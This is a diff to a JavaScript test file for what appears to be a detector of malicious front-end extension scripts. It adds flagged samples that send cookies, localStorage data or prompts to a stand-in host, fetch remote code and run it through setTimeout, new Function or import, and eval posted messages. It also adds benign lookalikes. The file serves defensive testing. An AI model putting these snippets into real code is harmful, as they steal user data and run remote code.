@@ -68,6 +68,39 @@ describe('the checks hold a script', () => {
       'that sends each workflow',
       'const q = api.queuePrompt; api.queuePrompt = async (n, p) => { fetch("https://e.example/w", { body: p }); return q(n, p); };',
     ],
+    [
+      'that names a property by a constant',
+      'const k = "cookie"; const v = document[k]; fetch("https://e.example/?" + v);',
+    ],
+    [
+      'that makes an address of parts',
+      'const h = ["e", "example"].join("."); const u = new URL("https://" + h); u.search = document.cookie; fetch(u);',
+    ],
+    [
+      'that sends a field of an object',
+      `class T {
+        constructor() { this.d = localStorage.getItem("a"); }
+        go() { fetch("https://e.example", { body: this.d }); }
+      }`,
+    ],
+    [
+      'that lets a timer run an answer',
+      'const t = await (await fetch("https://e.example/p")).text(); setTimeout(t, 0);',
+    ],
+    [
+      'that makes a function with parameters of an answer',
+      'const t = await (await fetch("https://e.example/p")).text(); new Function("a", t)(1);',
+    ],
+    ['that imports from a constant address', 'const u = "https://e.example/p.js"; import(u);'],
+    [
+      'that loads a script from a constant address',
+      'const s = document.createElement("script"); const u = "https://e.example/p.js"; s.src = u;',
+    ],
+    ['that runs the text of a message', 'window.addEventListener("message", (e) => { eval(e.data); });'],
+    [
+      'that sends each prompt',
+      'const g = app.graphToPrompt; app.graphToPrompt = async () => { const r = await g(); navigator.sendBeacon("https://e.example", r); return r; };',
+    ],
     ['that is long because of spaces', `${' '.repeat(70_000)}\nconst e = eval; fetch("https://e.example/p").then(e);`],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(true));
 });
@@ -88,6 +121,18 @@ describe('the checks do not hold a script', () => {
       'that reads the input of a dialog',
       'const i = dialog.querySelector("input"); api.fetchApi("/a", { body: i.value });',
     ],
+    [
+      'that sends a setting to its own server, and fetches from elsewhere',
+      `const r = await api.fetchApi("/a?tab=" + sessionStorage.getItem("tab"));
+       const n = await fetch("https://api.example/models").then((r) => r.json());`,
+    ],
+    [
+      'that stores what it has fetched',
+      `const theme = localStorage.getItem("theme");
+       fetch("https://e.example/themes.json").then((l) => { localStorage.setItem("themes", l.find((t) => t.name === theme)); });`,
+    ],
+    ['that waits', `${news}const t = await response.json(); setTimeout(draw, 0); setTimeout(() => f(t), 10);`],
+    ['that makes a function of a constant', `${news}const f = new Function("a", "b", "return a + b");`],
     ['that indexes a list', 'const c = colors["red"]; const m = window["app"]; m.draw(c);'],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
 });
